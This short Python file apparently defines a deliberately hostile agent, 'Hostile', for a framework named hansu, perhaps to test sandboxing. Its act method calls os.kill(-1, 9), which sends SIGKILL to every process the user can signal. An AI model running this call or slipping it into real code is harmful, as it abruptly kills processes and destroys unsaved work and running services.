import os

import hansu


class Hostile(hansu.Agent):
    def act(self, state):
        os.kill(-1, 9)
